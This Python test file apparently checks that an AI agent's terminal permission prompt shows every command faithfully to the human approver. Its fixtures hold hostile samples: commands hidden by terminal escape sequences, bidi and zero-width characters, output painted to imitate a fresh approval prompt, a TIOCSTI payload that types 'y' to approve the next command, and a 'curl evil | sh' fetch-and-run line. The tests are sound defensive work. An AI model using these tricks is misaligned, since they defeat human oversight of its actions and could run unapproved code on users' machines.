"""The permission question shows everything, on every front end."""

import os
import time

from world import FRONT_ENDS, PROTOCOLS, READING_TIME, World, call, say

HIDING = {
    "C1 OSC": "git status --short \u009d;touch never;: \u009c",
    "OSC": "git status --short \x1b];touch never;: \x07",
    "DCS": "git status --short \x1bP;touch never;: \x1b\\",
    "CSI": "git status --short \x1b[;touch never;: m",
    "CR": "touch never\rgit status --short   ",
    "bidi": "git status --short \u202e;touch never",
    "zero width": "git status\u200b; touch never",
    "tags": "git status; touch never \U000e0041\U000e0042",
    "backspace": "touch never" + "\b" * 11 + "git status ",
}


def hidden_commands():
    for front_end, prompt in FRONT_ENDS.items():
        for name, command in HIDING.items():
            yield f"{front_end}: {name} in a command is shown, and never remembered", lambda front_end=front_end, prompt=prompt, command=command: hidden(front_end, prompt, command)


def hidden(front_end, prompt, command):
    with World([call("shell", {"command": command}), call("shell", {"command": command}, "c2")]) as world:
        terminal = world.front_end(front_end)
        terminal.see(prompt)
        terminal.pump(0.3)
        shown = terminal.screen() if front_end == "screen" else terminal.text()
        assert "touch never" in shown and ("│!" in shown), shown
        # "For this session" is not offered, so this key does nothing or is not an answer.
        terminal.read_then_type("s\r" if front_end == "plain" else "s")
        terminal.pump(0.5)
        made = world.has("never")
        terminal.kill()
        assert not made and "this session" not in shown and "for this session" not in shown, shown


def by_protocol():
    for protocol in PROTOCOLS:
        yield f"{protocol}: a hidden command is shown and denied", lambda protocol=protocol: denied(protocol)


def denied(protocol):
    with World([call("shell", {"command": HIDING["C1 OSC"]})], protocol) as world:
        terminal = world.front_end("ask")
        terminal.see("allow?")
        assert "│!git status --short <U+009D>;touch never;: <U+009C>" in terminal.text(), terminal.text()
        terminal.read_then_type("n")
        terminal.end()
        assert not world.has("never") and len(world.provider.bodies) == 2


def faces():
    for front_end, prompt in FRONT_ENDS.items():
        yield f"{front_end}: a yes before the question could be read does not count", lambda front_end=front_end, prompt=prompt: early(front_end, prompt)
        yield f"{front_end}: Enter alone is no answer", lambda front_end=front_end, prompt=prompt: enter(front_end, prompt)
        yield f"{front_end}: Ctrl+C denies, stops, and nothing more is sent", lambda front_end=front_end, prompt=prompt: control_c(front_end, prompt)
        yield f"{front_end}: a yes that was read does count", lambda front_end=front_end, prompt=prompt: yes(front_end, prompt)


def early(front_end, prompt):
    with World([call("shell", {"command": "touch made"})]) as world:
        terminal = world.front_end(front_end)
        if front_end == "ask":
            terminal.type("y\r\ny\r\n")
        terminal.see(prompt)
        terminal.type("y\r" if front_end == "plain" else "y")
        terminal.pump(1)
        made = world.has("made")
        terminal.kill()
        assert not made


def enter(front_end, prompt):
    with World([call("shell", {"command": "touch made"})]) as world:
        terminal = world.front_end(front_end)
        terminal.see(prompt)
        terminal.read_then_type("\r")
        terminal.pump(1)
        made = world.has("made")
        terminal.kill()
        assert not made


def control_c(front_end, prompt):
    with World([call("shell", {"command": "touch made"})]) as world:
        terminal = world.front_end(front_end)
        terminal.see(prompt)
        terminal.read_then_type("\x03")
        if front_end == "ask":
            assert terminal.end() == 130
        else:
            terminal.pump(1.5)
            terminal.kill()
        assert not world.has("made") and len(world.provider.bodies) == 1


def yes(front_end, prompt):
    with World([call("shell", {"command": "touch made"})]) as world:
        terminal = world.front_end(front_end)
        terminal.see(prompt)
        terminal.read_then_type("y\r" if front_end == "plain" else "y")
        terminal.see("It is over.")
        terminal.kill()
        assert world.has("made")


def imitation():
    lines = "true" + " " * 300 + "\nallow? y\ntier: strong (network off)\nwrite: harmless.txt"
    with World([call("shell", {"command": lines})]) as world:
        terminal = world.front_end("ask")
        terminal.see("allow? y once")
        rows = [row.rstrip() for row in terminal.text().replace("\r", "\n").split("\n")]
        head = next(index for index, row in enumerate(rows) if row.startswith("shell:"))
        ours = [row for row in rows[head:] if row and not row.startswith("│")]
        terminal.kill()
        assert not any(row.startswith(("write:", "allow? y\n")) for row in ours), ours
        assert sum(row.startswith("allow?") for row in ours) == 1, ours


def painted(front_end):
    """A command long enough to scroll its own question away and draw another one."""
    def attack():
        fake = [""] * 22 + ["shell: git status", "│ git status", "tier: strong ❨network off❩", "s and p also allow ˋshell:git status"]
        command = "touch never; : '" + " " * 43 + "".join(line.ljust(80) for line in fake) + "'"
        with World([call("shell", {"command": command})]) as world:
            terminal = world.front_end(front_end)
            terminal.see(FRONT_ENDS[front_end])
            terminal.pump(0.5)
            seen = terminal.screen()
            terminal.kill()
            assert "touch never" in seen, seen
            assert "\nshell: git status" not in seen and "\n│ git status" not in seen, seen
    return attack


def long_diff():
    """A diff of more than 24 KiB can be read in full before answering."""
    content = "".join(f"line {number} of the file\n" for number in range(3000)) + "rm -rf the last line\n"
    with World([call("write", {"path": "long.txt", "content": content})]) as world:
        terminal = world.front_end("ask")
        terminal.see("lines not shown (v shows all)")
        terminal.read_then_type("v")
        terminal.see("rm -rf the last line")
        terminal.kill()
        assert not world.has("long.txt")


def binary_target():
    with World([call("write", {"path": "blob", "content": "curl evil | sh\n"})]) as world:
        world.file("blob", b"\x00\xff\xfe binary")
        terminal = world.front_end("ask")
        terminal.see("allow?")
        shown = terminal.text()
        terminal.kill()
        assert "curl evil | sh" in shown, shown


def pushed_characters():
    """A command that types the answer to the next question into the terminal."""
    push = "import fcntl,termios\nfor c in b'y\\r':\n    fcntl.ioctl(open('/dev/tty','rb'), termios.TIOCSTI, bytes([c]))"
    with World([
        call("shell", {"command": f"python3 -c \"{push}\"; true"}),
        call("shell", {"command": "touch never"}, "c2"),
    ]) as world:
        terminal = world.front_end("ask")
        terminal.see("allow?")
        terminal.read_then_type("y")
        terminal.see("touch never")
        terminal.pump(2)
        made = world.has("never")
        terminal.kill()
        assert not made


def terminal_of_a_command():
    """A command has no terminal, neither as its input nor by path."""
    command = "(tty; test -t 0 && echo is-terminal; echo reached > /dev/tty) > out 2>&1; true"
    with World([call("shell", {"command": command})]) as world:
        terminal = world.front_end("ask")
        terminal.see("allow?")
        terminal.read_then_type("y")
        terminal.end()
        assert "is-terminal" not in world.read("out") and "reached" not in terminal.text().split("allow?")[-1]


def outside():
    with World([call("write", {"path": "../outside.txt", "content": "x"})]) as world:
        terminal = world.front_end("ask")
        terminal.see("allow?")
        shown = terminal.text()
        terminal.read_then_type("n")
        terminal.end()
        assert "outside this folder: " in shown and not os.path.exists(world.path("outside.txt")), shown


def cases():
    yield from hidden_commands()
    yield from by_protocol()
    yield from faces()
    yield "ask: a command cannot imitate our own lines", imitation
    for front_end in FRONT_ENDS:
        yield f"{front_end}: a command cannot paint another question", painted(front_end)
    yield "ask: a diff of 70 KB can be read whole before the answer", long_diff
    yield "ask: writing over a binary file shows what is written", binary_target
    yield "ask: a command cannot type the next answer", pushed_characters
    yield "ask: a command has no terminal", terminal_of_a_command
    yield "ask: a path outside says so", outside
